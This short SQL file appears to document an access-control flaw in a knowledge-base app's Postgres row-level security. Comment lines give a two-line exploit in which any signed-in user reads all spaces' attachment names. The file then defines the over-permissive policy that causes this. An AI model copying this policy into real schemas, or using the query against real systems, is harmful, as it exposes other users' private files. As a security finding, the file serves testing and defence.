-- Anyone with an account lists the attachments of all spaces, because the policy asks only for a token.
-- about: attachments, attachments_signed_in
-- as: hf_wisebase_app
-- exploit: SET request.jwt.claims = '{"sub": "a0000000-0000-0000-0000-000000000001"}';
-- exploit: SELECT file_name FROM kb.attachments;
-- shows: Road-secret.pdf
-- Pictures did not load for readers.
CREATE POLICY attachments_signed_in ON kb.attachments FOR SELECT USING (kb.uid() IS NOT NULL);
